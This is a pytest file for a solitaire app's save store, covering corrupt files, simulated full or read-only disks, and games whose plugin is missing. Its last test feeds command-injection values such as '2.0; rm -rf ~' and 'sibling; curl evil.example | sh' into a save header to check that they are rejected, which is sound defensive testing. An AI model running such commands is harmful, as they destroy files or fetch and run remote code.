"""The store when things go wrong: files that cannot be read are told with where
they were kept, writes that fail (a full disk, a read-only folder) are kept in
memory and tried again, and a saved game whose plugin is gone waits for it.

The disk is made to fail by replacing the functions a write goes through: those of
``os`` as core/files.py sees them, and ``tempfile.mkstemp`` (core/files.py loads
``tempfile`` at its first write); a read-only folder made with chmod would not stop
root.
"""

from __future__ import annotations

import errno
import json
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from failing_store import SiblingPlugin
from hypothesis import given, settings
from hypothesis import strategies as st

from solitaire.core import files, locks
from solitaire.core.game import Game
from solitaire.core.registry import Catalog
from solitaire.core.store import WAITING, Settings, Statistics, Store
from solitaire.plugins.builtins import new_catalog

CURRENT = "current-game.json"
SETTINGS = "settings.json"
STATISTICS = "statistics.json"
WINDOW = "window.json"
KEY = Statistics.key("klondike", 1, "normal")


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return new_catalog(entry_points=False)


# -- a disk that fails ---------------------------------------------------------------------------


#: The real ``tempfile.mkstemp``, which the failing disk calls when it does not fail.
_MKSTEMP = tempfile.mkstemp


class Disk:
    """Stand-ins for what a write calls; while ``error`` is set, the step named
    ``where`` raises it ("mkstemp": the file cannot be made, as in a read-only
    folder; "write", "fsync" or "replace": a disk that fills up on the way)."""

    def __init__(self, where: str) -> None:
        self.where = where
        self.error: OSError | None = None

    def fail(self, code: int) -> None:
        self.error = OSError(code, os.strerror(code))

    def mend(self) -> None:
        self.error = None

    def _check(self, step: str) -> None:
        if self.error is not None and self.where == step:
            raise self.error

    # ``os`` and ``tempfile`` as core/files.py sees them

    def mkstemp(self, *args: Any, **kwargs: Any) -> tuple[int, str]:
        self._check("mkstemp")
        return _MKSTEMP(*args, **kwargs)

    def fdopen(self, descriptor: int, *args: Any, **kwargs: Any) -> Any:
        stream = os.fdopen(descriptor, *args, **kwargs)
        if self.error is not None and self.where == "write":
            error = self.error

            def write(data: bytes) -> int:
                os.write(descriptor, data[: len(data) // 2])  # half of it, then the disk is full
                raise error

            stream.write = write
        return stream

    def fsync(self, descriptor: int) -> None:
        self._check("fsync")
        os.fsync(descriptor)

    def replace(self, source: str | Path, target: str | Path) -> None:
        self._check("replace")
        os.replace(source, target)


class _Os:
    def __init__(self, disk: Disk) -> None:
        self.fdopen, self.fsync, self.replace = disk.fdopen, disk.fsync, disk.replace

    def __getattr__(self, name: str) -> Any:
        return getattr(os, name)


FAILURES = [
    ("mkstemp", errno.EROFS),
    ("write", errno.ENOSPC),
    ("fsync", errno.ENOSPC),
    ("replace", errno.ENOSPC),
]


def install(monkeypatch: pytest.MonkeyPatch, where: str) -> Disk:
    disk = Disk(where)
    monkeypatch.setattr(files, "os", _Os(disk))
    monkeypatch.setattr(tempfile, "mkstemp", disk.mkstemp)
    return disk


def contents(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}


def dealt(catalog: Catalog, deal: int = 99) -> Game:
    return catalog.new_game(catalog.options(deal=deal, draw=1))


# -- files that cannot be read -------------------------------------------------------------------


@pytest.mark.parametrize("name", [STATISTICS, SETTINGS, WINDOW])
def test_the_notice_names_where_the_bad_file_was_kept(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b'{"records": ')
    store = Store(tmp_path)
    store.statistics(), store.settings(), store.window_state()
    (kept,) = tmp_path.glob(f"{name}.corrupt-*")
    assert kept.read_bytes() == b'{"records": '
    (notice,) = store.take_notices()
    assert str(kept) in notice and str(kept) in notice.message("ru")
    assert notice.message("ru") != notice
    assert store.take_notices() == []  # told once
    store.statistics(), store.settings(), store.window_state()
    assert store.take_notices() == []


def test_a_bad_file_that_cannot_be_moved_aside_is_not_written_over(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, catalog: Catalog
) -> None:
    (tmp_path / STATISTICS).write_bytes(b"[1, 2")
    real_rename = Path.rename

    def no_rename(self: Path, target: Any) -> Path:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS))

    monkeypatch.setattr(Path, "rename", no_rename)
    store = Store(tmp_path)
    assert store.statistics() == Statistics()
    (notice,) = store.take_notices()
    assert "left as it is" in notice
    game = dealt(catalog)
    game.play("s")
    store.record_result(game, game_id="g", seconds=1.0)  # cannot move it aside: not written either
    assert (tmp_path / STATISTICS).read_bytes() == b"[1, 2"
    assert store.statistics().records[KEY].played == 1  # kept in memory
    monkeypatch.setattr(Path, "rename", real_rename)
    store.save_game(game, catalog, game_id="g")  # the next write moves it aside first
    (kept,) = tmp_path.glob(f"{STATISTICS}.corrupt-*")
    assert kept.read_bytes() == b"[1, 2"
    assert Store(tmp_path).statistics().records[KEY].played == 1


# -- writes that fail ----------------------------------------------------------------------------


@pytest.mark.parametrize(("where", "code"), FAILURES)
def test_a_failing_disk_is_told_once_keeps_the_last_save_and_saves_when_it_is_back(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, code: int
) -> None:
    store = Store(tmp_path)
    game = dealt(catalog)
    game.play("s")
    store.save_game(game, catalog, game_id="g")
    store.save_settings(Settings(language="ru"))
    before = contents(tmp_path)
    disk = install(monkeypatch, where)
    disk.fail(code)

    for _ in range(3):
        game.play("s")
        store.save_game(game, catalog, game_id="g")
    store.save_settings(Settings(language="en"))
    store.record_result(game, game_id="g", seconds=3.0)
    (notice,) = store.take_notices()
    assert os.strerror(code) in notice and str(tmp_path) in notice
    assert os.strerror(code) in notice.message("ru")
    assert store.unsaved
    # The files on the disk are the last good ones, and no temporary file is left.
    assert contents(tmp_path) == before
    loaded = Store(tmp_path).load_game(catalog)
    assert loaded is not None and loaded[0].actions == ["s"]
    # This store goes on with what it was given.
    assert store.settings().language == "en"
    assert store.statistics().records[KEY].played == 1
    assert store.record_result(game, game_id="g", seconds=3.0) is False  # still counted once
    assert not store.retry()
    assert store.take_notices() == []  # told once, however often it is tried

    disk.mend()
    assert store.retry()
    (back,) = store.take_notices()
    assert "again" in back
    assert not store.unsaved
    again = Store(tmp_path)
    loaded = again.load_game(catalog)
    assert loaded is not None and loaded[0].journal == game.journal
    assert again.settings().language == "en"
    assert again.statistics().records[KEY].played == 1
    assert again.notices == []
    assert not list(tmp_path.glob(".*.tmp"))


@settings(max_examples=30, deadline=None)
@given(steps=st.lists(st.booleans(), min_size=1, max_size=12))
def test_the_disk_always_holds_the_last_save_that_worked(steps: list[bool]) -> None:
    """Whatever the order of failing and working saves: the file on the disk is the
    last save that worked, the store reads the last one made, nothing is half written,
    and each run of failures is told once (and so is the save that works after it)."""
    catalog = new_catalog(entry_points=False)
    with tempfile.TemporaryDirectory() as name, pytest.MonkeyPatch.context() as monkeypatch:
        folder = Path(name)
        disk = install(monkeypatch, "replace")
        store = Store(folder)
        game = dealt(catalog, 7)
        written: list[str] | None = None
        failing, told = False, 0
        for works in steps:
            game.play("s")
            if works:
                disk.mend()
            else:
                disk.fail(errno.ENOSPC)
            store.save_game(game, catalog, game_id="g")
            if works:
                written = list(game.actions)
            told += works == failing  # a failure after a success, or a success after failures
            failing = not works
            assert len(store.notices) == told
            assert store.unsaved == failing
            resumed = Store(folder).load_game(catalog)
            assert (resumed[0].actions if resumed else None) == written
            assert [path.name for path in folder.iterdir()] == ([CURRENT] if written else [])


def test_a_store_on_a_failing_disk_opens_and_reads_as_empty(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    disk = install(monkeypatch, "mkstemp")
    disk.fail(errno.EROFS)
    store = Store(tmp_path / "store")
    assert store.load_game(catalog) is None
    store.save_game(dealt(catalog), catalog, game_id="g")
    assert store.load_game(catalog) is not None  # what was saved is there, in memory
    assert len(store.take_notices()) == 1
    assert not any((tmp_path / "store").iterdir())


def test_the_players_interrupt_still_goes_through(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = Store(tmp_path)
    disk = install(monkeypatch, "fsync")

    def interrupted(descriptor: int) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(disk, "fsync", interrupted)
    monkeypatch.setattr(files, "os", _Os(disk))
    with pytest.raises(KeyboardInterrupt):
        store.save_game(dealt(catalog), catalog, game_id="g")
    assert list(tmp_path.iterdir()) == []


# -- a saved game whose plugin is gone -----------------------------------------------------------


@pytest.fixture(scope="module")
def with_plugin() -> Catalog:
    return new_catalog(entry_points=False, plugins=[SiblingPlugin()])


@pytest.fixture
def sibling_saved(with_plugin: Catalog, tmp_path: Path) -> Iterator[Game]:
    """A game of Sibling with moves, saved as the game in progress."""
    game = with_plugin.new_game(with_plugin.options("sibling", deal=31))
    game.play("s")
    game.play("s")
    Store(tmp_path).save_game(game, with_plugin, game_id="sib-1", seconds=12.0)
    yield game


def waiting(folder: Path) -> list[Path]:
    return sorted((folder / WAITING).glob("*.json"))


def test_a_game_whose_plugin_is_gone_waits_and_comes_back_with_it(
    catalog: Catalog, with_plugin: Catalog, tmp_path: Path, sibling_saved: Game
) -> None:
    raw = (tmp_path / CURRENT).read_bytes()
    store = Store(tmp_path)
    assert store.load_game(catalog) is None
    (kept,) = waiting(tmp_path)
    assert kept.name == "sibling-sib-1.json" and kept.read_bytes() == raw
    (notice,) = store.take_notices()
    assert "'sibling'" in notice and "not installed" in notice and str(kept) in notice
    assert str(kept) in notice.message("ru")
    assert not list(tmp_path.glob("*.corrupt-*"))
    # A new game is dealt and saved meanwhile; it does not replace the waiting one.
    store.save_game(dealt(catalog), catalog, game_id="new")
    later = Store(tmp_path)
    loaded = later.load_game(catalog)
    assert loaded is not None and loaded[1].id == "new"
    assert later.notices == [] and waiting(tmp_path) == [kept]

    # The plugin is back: no game is in progress, so the waiting one is resumed.
    back = Store(tmp_path)
    loaded = back.load_game(with_plugin)
    assert loaded is not None
    game, saved = loaded
    assert (saved.id, saved.seconds) == ("sib-1", 12.0)
    assert game.journal == sibling_saved.journal and game.state == sibling_saved.state
    assert waiting(tmp_path) == []
    assert (tmp_path / CURRENT).read_bytes() == raw
    (resumed,) = back.take_notices()
    assert game.code in resumed


def test_a_game_in_progress_is_not_replaced_by_a_waiting_one(
    catalog: Catalog, with_plugin: Catalog, tmp_path: Path, sibling_saved: Game
) -> None:
    Store(tmp_path).load_game(catalog)
    other = dealt(catalog)
    other.play("s")
    Store(tmp_path).save_game(other, catalog, game_id="other")
    store = Store(tmp_path)
    loaded = store.load_game(with_plugin)
    assert loaded is not None and loaded[1].id == "other"
    (kept,) = waiting(tmp_path)
    (notice,) = store.take_notices()
    assert str(kept) in notice and "resumed at a start with no game in progress" in notice
    # Once that game is over (a fresh deal saved), the waiting game comes back.
    store.save_game(dealt(catalog, 5), catalog, game_id="fresh")
    loaded = Store(tmp_path).load_game(with_plugin)
    assert loaded is not None and loaded[1].id == "sib-1"


def test_a_waiting_game_whose_file_was_spoilt_is_kept_aside(
    with_plugin: Catalog, catalog: Catalog, tmp_path: Path, sibling_saved: Game
) -> None:
    Store(tmp_path).load_game(catalog)
    (kept,) = waiting(tmp_path)
    data = json.loads(kept.read_bytes())
    data["log"]["actions"][0]["events"][0]["cards"] = ["AS"]
    kept.write_text(json.dumps(data), encoding="utf-8")
    store = Store(tmp_path)
    assert store.load_game(with_plugin) is None
    assert waiting(tmp_path) == []
    (aside,) = (tmp_path / WAITING).glob("*.corrupt-*")
    (notice,) = store.take_notices()
    assert str(aside) in notice


def test_a_folder_where_no_lock_can_be_made_keeps_results_and_settings_in_memory(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A read-only folder: neither the lock file nor the data files can be made."""
    disk = install(monkeypatch, "mkstemp")
    disk.fail(errno.EROFS)

    def no_lock_file(path: Path) -> int:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))

    monkeypatch.setattr(locks, "_open", no_lock_file)
    store = Store(tmp_path)
    assert store.claim_game()  # the game of current-game.json, as without locks
    game = dealt(catalog)
    game.play("s")
    assert store.record_result(game, game_id="g", seconds=1.0)
    store.save_settings(Settings(language="ru"))
    assert store.update_settings(lambda settings: settings).language == "ru"
    assert store.statistics().records[KEY].played == 1
    (notice,) = store.take_notices()
    assert os.strerror(errno.EROFS) in notice
    assert list(tmp_path.iterdir()) == []


def test_a_game_cleared_on_a_read_only_folder_stays_and_nothing_fails(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = Store(tmp_path)
    store.save_game(dealt(catalog), catalog, game_id="g")

    def no_unlink(self: Path, missing_ok: bool = False) -> None:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(self))

    monkeypatch.setattr(Path, "unlink", no_unlink)
    store.clear_game()
    monkeypatch.undo()
    assert (tmp_path / CURRENT).exists()


@pytest.mark.parametrize(
    ("package", "version", "advice"),
    [
        ("solitaire-sibling", "2.0.1", "install it with pip install 'solitaire-sibling==2.0.1'"),
        ("solitaire-sibling", "2.0; rm -rf ~", None),
        ("sibling; curl evil.example | sh", "1.0", None),
        ("it's", None, None),
    ],
)
def test_the_advice_names_only_a_package_that_looks_like_one(
    catalog: Catalog,
    tmp_path: Path,
    sibling_saved: Game,
    package: str,
    version: str | None,
    advice: str | None,
) -> None:
    """A package or version that is not a distribution name or version number (PEP 508,
    PEP 440) refuses the log (docs/log-format.md): the file is kept aside, never advised."""
    data = json.loads((tmp_path / CURRENT).read_bytes())
    data["log"]["header"]["variant"].update({"package": package, "version": version})
    (tmp_path / CURRENT).write_text(json.dumps(data), encoding="utf-8")
    store = Store(tmp_path)
    assert store.load_game(catalog) is None
    (notice,) = store.take_notices()
    if advice is not None:
        assert "'sibling', which is not installed" in notice and advice in notice
    else:
        assert "pip install" not in notice and "header.variant." in notice
        assert "is not a distribution name" in notice or "is not a version number" in notice
